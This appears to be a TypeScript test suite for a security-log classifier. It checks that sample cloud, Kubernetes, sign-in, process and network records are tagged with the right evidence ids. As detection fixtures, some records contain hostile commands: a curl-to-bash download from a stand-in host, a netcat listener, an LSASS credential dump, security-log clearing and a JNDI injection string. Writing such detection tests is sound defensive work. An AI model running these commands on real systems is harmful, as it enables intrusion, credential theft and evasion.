import { describe, expect, it } from 'vitest';
import { isJsonObject, type Json, type JsonObject } from '../../json.ts';
import { observe } from './assess.ts';

function idsOf(record: unknown): string[] {
  return observe(record).evidence.map((item) => item.id);
}

function inCluster(verb: string, resource: string, more: JsonObject = {}): Json {
  const { objectRef, ...rest } = more;
  return {
    verb,
    objectRef: { resource, namespace: 'shop', name: 'x', ...(isJsonObject(objectRef) ? objectRef : {}) },
    user: { username: 'ines@lisboa.example' },
    sourceIPs: ['10.0.0.9'],
    responseStatus: { code: 200 },
    ...rest,
  };
}

const cases: readonly (readonly [what: string, record: Json, shows: string, hides?: string])[] = [
  ['a shell in a container', inCluster('create', 'pods', { objectRef: { subresource: 'exec' } }), 'k8s:exec'],
  [
    'files copied out of a container',
    inCluster('create', 'pods', {
      objectRef: { subresource: 'exec' },
      requestURI: '/exec?command=tar&command=cf&command=-',
    }),
    'k8s:copy-out',
  ],
  [
    'a port forwarded',
    inCluster('create', 'pods', { objectRef: { subresource: 'portforward' } }),
    'k8s:port-forward',
  ],
  [
    'a debug container',
    inCluster('patch', 'pods', { objectRef: { subresource: 'ephemeralcontainers' } }),
    'k8s:ephemeral',
  ],
  ['secrets listed', inCluster('list', 'secrets'), 'k8s:secrets-listed'],
  ['a secret read', inCluster('get', 'secrets'), 'k8s:secret-read'],
  ['a daemon set', inCluster('create', 'daemonsets'), 'k8s:new-persistent'],
  [
    'a workload among the system’s',
    inCluster('create', 'pods', { objectRef: { namespace: 'kube-system' } }),
    'k8s:workload-in-system',
  ],
  [
    'a host path mounted',
    inCluster('create', 'pods', { requestObject: { spec: { volumes: [{ hostPath: { path: '/etc' } }] } } }),
    'k8s:host-access',
  ],
  [
    'a capability added',
    inCluster('create', 'pods', { requestObject: { spec: { capabilities: { add: ['SYS_ADMIN'] } } } }),
    'k8s:host-access',
  ],
  [
    'an admin binding',
    inCluster('create', 'clusterrolebindings', { requestObject: { roleRef: { name: 'cluster-admin' } } }),
    'k8s:admin-binding',
  ],
  [
    'a binding for everybody',
    inCluster('create', 'rolebindings', {
      requestObject: { roleRef: { name: 'x' }, subjects: [{ name: 'system:unauthenticated' }] },
    }),
    'k8s:bound-to-anyone',
  ],
  [
    'an ordinary binding',
    inCluster('create', 'rolebindings', { requestObject: { roleRef: { name: 'view' } } }),
    'k8s:binding',
    'k8s:admin-binding',
  ],
  [
    'a system role changed',
    inCluster('patch', 'clusterroles', { objectRef: { name: 'system:node' } }),
    'k8s:system-role-changed',
  ],
  [
    'a role that may impersonate',
    inCluster('create', 'roles', {
      requestObject: { rules: [{ resources: ['users'], verbs: ['impersonate'] }] },
    }),
    'k8s:role-escalation-verb',
  ],
  [
    'a role that may run commands',
    inCluster('create', 'roles', {
      requestObject: { rules: [{ resources: ['pods/exec'], verbs: ['create'] }] },
    }),
    'k8s:role-risky-resource',
  ],
  [
    'a service on every node',
    inCluster('create', 'services', { requestObject: { spec: { type: 'NodePort' } } }),
    'k8s:exposed-service',
  ],
  [
    'an ingress without TLS',
    inCluster('create', 'ingresses', { requestObject: { spec: { rules: [] } } }),
    'k8s:ingress',
    'k8s:ingress-tls',
  ],
  ['a network policy deleted', inCluster('delete', 'networkpolicies'), 'k8s:policy-deleted'],
  ['an admission webhook', inCluster('create', 'mutatingwebhookconfigurations'), 'k8s:admission-webhook'],
  ['events deleted', inCluster('deletecollection', 'events'), 'k8s:events-deleted'],
  ['a namespace deleted', inCluster('delete', 'namespaces'), 'k8s:namespace-deleted'],
  [
    'the cluster’s DNS changed',
    inCluster('update', 'configmaps', { objectRef: { name: 'coredns' } }),
    'k8s:core-config',
  ],
  ['a service account', inCluster('create', 'serviceaccounts'), 'k8s:service-account'],
  [
    'a token for one',
    inCluster('create', 'serviceaccounts', { objectRef: { subresource: 'token' } }),
    'k8s:token',
  ],
  ['a certificate request', inCluster('create', 'certificatesigningrequests'), 'k8s:certificate'],
  [
    'a system account outside the cluster',
    inCluster('list', 'pods', {
      user: { username: 'system:serviceaccount:kube-system:default' },
      sourceIPs: ['198.51.100.9'],
    }),
    'k8s:system-from-internet',
  ],
  [
    'a refused call from outside',
    inCluster('list', 'pods', { sourceIPs: ['198.51.100.9'], responseStatus: { code: 403 } }),
    'k8s:denied-from-internet',
  ],
  [
    'nobody reading',
    inCluster('get', 'pods', { user: { username: 'system:anonymous' }, sourceIPs: ['198.51.100.9'] }),
    'k8s:anonymous',
  ],
  [
    'nobody probing health',
    {
      user: { username: 'system:anonymous' },
      userAgent: 'kube-probe/1.30',
      requestURI: '/livez',
      responseStatus: { code: 200 },
    },
    'agent:health-check',
    'k8s:anonymous',
  ],
  [
    'the same through GKE',
    {
      protoPayload: {
        methodName: 'io.k8s.core.v1.pods.exec.create',
        resourceName: 'core/v1/namespaces/shop/pods/x/exec',
      },
    },
    'k8s:exec',
  ],

  [
    'a sign-in without a second factor',
    {
      eventName: 'ConsoleLogin',
      additionalEventData: { MFAUsed: 'No' },
      responseElements: { ConsoleLogin: 'Success' },
    },
    'login:no-mfa',
  ],
  [
    'a sign-in with one',
    {
      eventName: 'ConsoleLogin',
      additionalEventData: { MFAUsed: 'Yes' },
      responseElements: { ConsoleLogin: 'Success' },
    },
    'login:mfa',
    'login:no-mfa',
  ],
  [
    'a sign-in as root',
    {
      eventName: 'ConsoleLogin',
      userIdentity: { type: 'Root' },
      responseElements: { ConsoleLogin: 'Success' },
    },
    'login:root',
  ],
  [
    'a failed one',
    { eventName: 'ConsoleLogin', errorMessage: 'Failed authentication' },
    'outcome:failed:login',
    'login:is-login',
  ],
  [
    'a password alone',
    { event_type: 'LOGIN', first_authentication_factor: 'PASSWORD', is_success: 'YES' },
    'login:password-only',
  ],
  [
    'a legacy protocol',
    { operationName: 'Sign-in activity', clientAppUsed: 'IMAP4' },
    'login:legacy-protocol',
  ],
  [
    'a device code',
    { operationName: 'Sign-in activity', authenticationProtocol: 'deviceCode' },
    'login:device-code',
  ],
  [
    'a refused prompt',
    { event_type: 'authentication', factor: 'duo_push', result: 'denied', reason: 'user_marked_fraud' },
    'login:refused-by-user',
  ],
  [
    'an unmanaged device',
    { event_type: 'authentication', factor: 'duo_push', result: 'denied', reason: 'endpoint_is_not_trusted' },
    'login:untrusted-device',
  ],
  [
    'a locked account',
    { event_type: 'authentication', factor: 'x', reason: 'account locked out' },
    'login:locked',
  ],
  [
    'an anomaly the provider names',
    { category: 'UserRiskEvents', riskEventType: 'impossibleTravel' },
    'login:anomaly-named',
  ],
  ['a high risk', { eventName: 'signIn', riskLevelDuringSignIn: 'high' }, 'risk:high'],
  ['a medium risk', { eventName: 'signIn', riskLevel: 'medium' }, 'risk:medium'],
  [
    'new behaviour',
    {
      eventType: 'user.session.start',
      debugData: { behaviors: '{New Device=POSITIVE, New IP=POSITIVE, Velocity=NEGATIVE}' },
    },
    'risk:new-behaviour',
  ],
  [
    'an anonymiser',
    { eventType: 'user.session.start', securityContext: { isProxy: true } },
    'source:anonymiser',
  ],

  [
    'an encoded command',
    { CommandLine: 'powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A' },
    'command:encoded',
  ],
  ['a script piped into a shell', { cmdline: 'curl -s http://x.example/a | bash' }, 'command:pipe-to-shell'],
  ['a listener', { program: 'nc', path: '/bin/nc', argv: ['-l', '-p', '4444'] }, 'command:reverse-shell'],
  ['credentials dumped', { commandLine: 'procdump -ma lsass.exe' }, 'command:credentials'],
  ['a log cleared', { commandLine: 'wevtutil cl Security' }, 'command:impair'],
  [
    'a shell started by a text processor',
    { CommandLine: 'cmd.exe /c x', ImageFileName: 'C:\\Windows\\cmd.exe', ParentBaseFileName: 'WINWORD.EXE' },
    'command:strange-parent',
  ],
  ['an ordinary command', { CommandLine: 'git status' }, 'command:is-process', 'command:encoded'],
  [
    'a name look-up that carries a command line',
    { event_simpleName: 'DnsRequest', CommandLine: 'mimikatz' },
    'actor:unknown',
    'command:credentials',
  ],
  [
    'a ransom note',
    { eventName: 'PutObject', requestParameters: { key: 'HOW_TO_DECRYPT.txt' } },
    'content:ransom-note',
  ],
  ['a table dropped', { QUERY_TEXT: 'DROP TABLE customers' }, 'content:risky-query'],
  [
    'an attack in a request',
    { ClientRequestPath: '/?x=\u0024{jndi:ldap://evil.example/a}', Action: 'block' },
    'content:attack',
  ],
  [
    'a stranger’s change built with the project’s secrets',
    {
      action: 'requested',
      workflow_run: { event: 'pull_request_target', head_repository: { full_name: 'x/r', fork: true } },
    },
    'pipeline:privileged-trigger',
  ],

  [
    'remote administration from the internet',
    { srcAddr: '198.51.100.1', dstAddr: '10.0.0.1', dstPort: 22 },
    'flow:admin-port-from-internet',
  ],
  [
    'the same, refused',
    { srcAddr: '198.51.100.1', dstAddr: '10.0.0.1', dstPort: 22, action: 'REJECT' },
    'flow:rejected',
  ],
  [
    'a web request from the internet',
    { srcAddr: '198.51.100.1', dstAddr: '10.0.0.1', dstPort: 443 },
    'flow:inbound',
  ],
  ['a flow inside', { srcAddr: '10.0.0.2', dstAddr: '10.0.0.1', dstPort: 22 }, 'flow:internal'],
  ['an odd port out', { srcAddr: '10.0.0.2', dstAddr: '198.51.100.1', dstPort: 4444 }, 'flow:odd-port-out'],
  [
    'a foreign resolver',
    { src_endpoint: { ip: '10.0.0.2' }, dst_endpoint: { ip: '198.51.100.1', port: 53 } },
    'flow:foreign-dns',
  ],
  [
    'data in a name',
    { query_name: 'mzxw6ytboi2dknrtga4dsmjs.x.example', query_type: 'A' },
    'dns:encoded-label',
  ],

  [
    'a mail nobody vouches for',
    { name: 'delivery', connection_info: { spf_pass: false, dkim_pass: false, dmarc_pass: false } },
    'mail:unauthenticated',
  ],
  ['a mail with a high score', { subject: 'x', phishScore: 95 }, 'mail:high-score'],
  ['a mail with a low score', { subject: 'x', phishScore: 0 }, 'mail:low-score'],
  ['an address a list names', { otx: { indicator: '198.51.100.1', adversary: 'X' } }, 'intel:enriched'],
  ['an exit of Tor', { p_enrichment: { tor_exit_nodes: ['198.51.100.1'] } }, 'intel:enriched'],
  ['a sample alert', { alertId: 'a', severity: 8, additionalInfo: { sample: true } }, 'alert:sample'],
  ['a score of a hundred', { alertId: 'a', severity: 95 }, 'alert:critical'],
  ['a score of ten', { alertId: 'a', severity: 2 }, 'alert:low'],
  ['a verdict', { alertId: 'a', verdict: 'malicious' }, 'verdict:bad'],
  ['a verdict the other way', { alertId: 'a', verdict: 'benign' }, 'verdict:good'],

  [
    'a group opened to the internet',
    { eventName: 'AuthorizeSecurityGroupIngress', requestParameters: { cidrIp: '0.0.0.0/0' } },
    'value:open-to-internet',
  ],
  [
    'the same taken back',
    { eventName: 'RevokeSecurityGroupIngress', requestParameters: { cidrIp: '0.0.0.0/0' } },
    'verb:revoke',
    'value:open-to-internet',
  ],
  [
    'a database made public',
    { eventName: 'ModifyDBInstance', requestParameters: { publiclyAccessible: true } },
    'value:public',
  ],
  [
    'one that is public already',
    { eventName: 'ModifyDBInstance', responseElements: { publiclyAccessible: true } },
    'verb:update',
    'value:public',
  ],
  [
    'a snapshot for all',
    { eventName: 'ModifySnapshotAttribute', requestParameters: { add: { items: [{ group: 'all' }] } } },
    'value:everyone',
  ],
  [
    'a password set',
    { eventName: 'ModifyDBInstance', requestParameters: { masterUserPassword: '****' } },
    'value:password-set',
  ],
  [
    'versioning suspended',
    {
      eventName: 'PutBucketVersioning',
      requestParameters: { VersioningConfiguration: { Status: 'Suspended' } },
    },
    'value:protection-off',
  ],
  [
    'a document shared outside',
    { name: 'share_document', actor: { email: 'a@lisboa.example' }, target_user: 'b@elsewhere.example' },
    'target:external',
  ],
  [
    'a document shared inside',
    { name: 'share_document', actor: { email: 'a@lisboa.example' }, target_user: 'b@lisboa.example' },
    'target:internal',
  ],
  [
    'another account trusted',
    {
      eventName: 'UpdateAssumeRolePolicy',
      recipientAccountId: '111122223333',
      requestParameters: {
        policyDocument:
          '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::999988887777:root"}}]}',
      },
    },
    'policy:foreign-account',
  ],
  [
    'an exposure taken back',
    { event: 'external_sharing_changed', old_value: 'on', new_value: 'off', sharing: 'private' },
    'change:exposure-off',
  ],
  [
    'credentials of an instance elsewhere',
    {
      eventName: 'GetObject',
      sourceIPAddress: '198.51.100.1',
      userIdentity: { arn: 'arn:aws:sts::1:assumed-role/app/i-0abc1234def567890' },
    },
    'source:instance-credential-outside',
  ],
  ['an attack tool', { eventName: 'ListUsers', userAgent: 'TruffleHog' }, 'agent:attack-tool'],
  [
    'one open statement beside a restricted one',
    {
      eventName: 'SetQueueAttributes',
      policy: {
        Statement: [
          { Effect: 'Allow', Principal: '*', Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-1' } } },
          { Effect: 'Allow', Principal: '*', Action: 'sqs:SendMessage' },
        ],
      },
    },
    'policy:any-principal',
    'policy:condition',
  ],
  [
    'an identity of another account',
    {
      eventName: 'GetObject',
      userIdentity: { accountId: '111122223333' },
      vpcEndpointAccountId: '999988887777',
    },
    'actor:foreign-account',
  ],
  [
    'an object fetched without transport encryption',
    {
      bucket: 'b',
      operation: 'REST.GET.OBJECT',
      hostheader: 'b.s3.example',
      requester: 'ana',
      httpstatus: 200,
    },
    'request:plaintext',
    'request:unauthenticated',
  ],
  [
    'an object fetched without a signature',
    { bucket: 'b', operation: 'REST.GET.OBJECT', tlsversion: 'TLSv1.2', requester: '-', httpstatus: 200 },
    'request:unauthenticated',
    'request:plaintext',
  ],
  [
    'a firewall opened to inner addresses only',
    {
      methodName: 'v1.compute.firewalls.insert',
      request: { sourceRanges: ['10.0.0.0/8', '192.168.1.0/24'] },
    },
    'value:inner-range',
  ],
  [
    'an owner removed from a project',
    {
      methodName: 'SetIamPolicy',
      serviceData: { policyDelta: { bindingDeltas: [{ action: 'REMOVE', role: 'roles/owner' }] } },
    },
    'change:taken-back',
  ],
  [
    'a snapshot no longer shared',
    {
      eventName: 'ModifySnapshotAttribute',
      requestParameters: { createVolumePermission: { remove: { items: [{ group: 'all' }] } } },
    },
    'change:taken-back',
    'value:everyone',
  ],
  [
    'a rule that denies',
    { operationName: 'X/SECURITYRULES/WRITE', properties: { access: 'Deny', sourceAddressPrefix: '*' } },
    'value:deny-rule',
  ],
  [
    'a weak protocol allowed',
    { operationName: 'Microsoft.Storage/storageAccounts/write', properties: { minimumTlsVersion: 'TLS1_0' } },
    'value:protection-off',
  ],
  [
    'metadata of machines behind a token',
    { eventName: 'ModifyInstanceMetadataOptions', requestParameters: { httpTokens: 'required' } },
    'value:protection-on',
  ],
  [
    'a second factor bypassed',
    { action: 'user_update', description: '{"status": "Bypass"}', username: 'ana' },
    'value:protection-off',
  ],
  [
    'an administrator’s policy attached',
    { eventName: 'AttachUserPolicy', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    'grant:strong',
  ],
  [
    'a reader’s role assigned',
    {
      operationName: 'Microsoft.Authorization/roleAssignments/write',
      roleDefinitionId: '/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7',
    },
    'grant:weak',
    'grant:strong',
  ],
  [
    'mail forwarded to a colleague',
    {
      name: 'email_forwarding_out_of_domain',
      type: 'email_forwarding_change',
      actor: { email: 'ana@lisboa.example' },
      parameters: { email_forwarding_destination_address: 'rui@lisboa.example' },
    },
    'grant:inside',
  ],
  [
    'an outsider named in a sentence',
    { description: 'Added user eve@elsewhere.example to org 12', loginName: 'ana@lisboa.example' },
    'target:external',
  ],
  [
    'a change of accounts in one workspace of many',
    { actionName: 'createUser', serviceName: 'workspace', userIdentity: { email: 'ana@lisboa.example' } },
    'scope:narrow',
  ],
  ['a change of accounts everywhere', { actionName: 'createUser', serviceName: 'accounts' }, 'scope:wide'],
  ['an administrator invited', { type: 'admin_invited', actor: 'ana' }, 'word:admin'],
  [
    'no administrator in the name of an interface',
    { methodName: 'google.iam.admin.v1.WorkforcePools.DeleteWorkforcePool' },
    'verb:delete',
    'word:admin',
  ],
  [
    'an application where accounts have addresses',
    { actionName: 'getTable', userIdentity: { email: '0b1c2d3e-0000-4000-8000-00000000abcd' } },
    'actor:service',
  ],
  ['a robot', { action: 'repo.create', actor: 'renovate[bot]' }, 'actor:service'],
  ['an amount of data', { eventType: 'BulkApi', RECORDS_PROCESSED: 150_000 }, 'volume:large'],
  ['no amount to speak of', { eventType: 'ListViewed', RECORDS_PROCESSED: 15 }, 'support:0', 'volume:large'],
  ['a table dropped', { methodName: 'InsertJob', statementType: 'DROP_TABLE' }, 'content:risky-query'],
  [
    'a program started elsewhere',
    {
      CommandLine: 'wmic /node:db1 process call create "cmd.exe /c a.exe"',
      event_simpleName: 'ProcessRollup2',
    },
    'command:remote-start',
  ],
  [
    'a well-known resolver',
    { srcAddr: '10.0.0.4', dstAddr: '9.9.9.9', dstPort: 53 },
    'flow:public-dns',
    'flow:foreign-dns',
  ],
  [
    'a resolver nobody knows',
    { srcAddr: '10.0.0.4', dstAddr: '198.51.100.4', dstPort: 53 },
    'flow:foreign-dns',
  ],
  [
    'a machine’s name in a delivery network',
    { queryName: '4ifgvg5jcq6meu7m4acon5vnfa0kocom.cloudfront.net.' },
    'dns:is-query',
    'dns:encoded-label',
  ],
  [
    'a blocked name',
    { action: 'Blocked', responseCode: 'NOERROR', domain: 'c2.example.' },
    'dns:blocked',
    'dns:is-query',
  ],
  [
    'an outdated device refused',
    { event_type: 'authentication', factor: 'duo_push', reason: 'out_of_date', result: 'denied' },
    'login:mundane-reason',
  ],
  [
    'a root sign-in however well proven',
    { event: 'user.login', login: 'root', user: 'ana', success: true },
    'login:root',
    'login:is-login',
  ],
  [
    'a cluster’s own token used elsewhere',
    inCluster('get', 'configmaps', {
      user: { username: 'system:serviceaccount:kube-system:coredns' },
      sourceIPs: ['198.51.100.7'],
    }),
    'k8s:system-from-internet',
    'actor:system',
  ],
  [
    'what runs in the network of nodes',
    inCluster('get', 'configmaps', {
      user: { username: 'system:serviceaccount:kube-system:csi-disk-node-sa' },
      sourceIPs: ['198.51.100.7'],
    }),
    'actor:system',
    'k8s:system-from-internet',
  ],
  [
    'a node that no cloud has named',
    inCluster('create', 'serviceaccounts', {
      user: { username: 'system:node:intruder' },
      sourceIPs: ['198.51.100.7'],
      objectRef: { subresource: 'token' },
    }),
    'k8s:system-from-internet',
  ],
  [
    'the first address among proxies',
    inCluster('get', 'services', {
      user: { username: 'system:serviceaccount:kube-system:coredns' },
      sourceIPs: ['not-an-ip', '10.0.1.5'],
    }),
    'k8s:system-actor',
  ],
  [
    'a protection described as switched on',
    { action: 'Update', operation_detail: 'Security - Require two-factor authentication: from Off to On' },
    'text:on',
    'detail:disable:mfa',
  ],
  [
    'a request still to be approved',
    { operationName: 'Add member to role in PIM requested' },
    'word:requested',
  ],
  ['deletion of a thing without a name', { eventType: 'WIDGET_DELETED' }, 'bare:delete'],
  ['a name without a verb', { eventType: 'CertificateAuthority' }, 'named:update:encryption'],
  ['no reading of Azure’s word for calls', { operationName: 'X/things/restart/action' }, 'topic:none'],
  [
    'several things at once',
    { eventName: 'PutBucketAcl', acl: 'public-read', userAgent: 'pacu' },
    'support:4',
  ],
];

describe('evidence', () => {
  it.each(cases)('sees %s', (_what, record, shows, hides) => {
    const ids = idsOf(record);
    expect(ids).toContain(shows);
    if (hides !== undefined) expect(ids).not.toContain(hides);
  });
});
